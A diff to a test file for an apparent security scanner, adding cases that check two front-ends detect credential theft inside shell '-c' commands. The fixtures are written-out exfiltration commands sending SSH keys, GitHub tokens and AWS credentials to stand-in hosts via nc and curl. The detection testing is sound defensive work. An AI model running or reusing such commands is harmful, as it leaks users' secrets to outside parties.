@@ -113,6 +113,26 @@ describe("credential commands (signatures/commands.yaml credentialCommands)", ()
   });
 });
 
+describe("the command a shell is given to run (src/analyzers/shell-words.ts innerCommandLine)", () => {
+  it.each([
+    'sh -c "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000"',
+    'bash -e -c "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000"',
+    'zsh -c "gh auth token | curl -d @- https://c.example.invalid/"',
+    'dash -c "curl -F k=@$HOME/.aws/credentials https://c.example.invalid/"',
+    'powershell -NoProfile -Command "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000"',
+    "pwsh -c gh auth token | curl -d @- https://c.example.invalid/",
+  ])("is read by both front-ends, with the same findings: %s", async (line) => {
+    const { js, python } = await findings(line);
+    expect(js).toContain("credential-exfiltration critical");
+    expect(python).toEqual(js);
+  });
+
+  it("the inner command's credential reads are the same in both", () => {
+    expect(readings('bash -e -c "gh auth token"')).toEqual({ js: ["git-credentials"], python: ["git-credentials"] });
+    expect(readings("pwsh -Command gh auth token")).toEqual({ js: ["git-credentials"], python: ["git-credentials"] });
+  });
+});
+
 describe("destinations (signatures/commands.yaml programs.<name>.destination)", () => {
   // [command line, the destination both front-ends read]
   const rows: [string, string | null][] = [
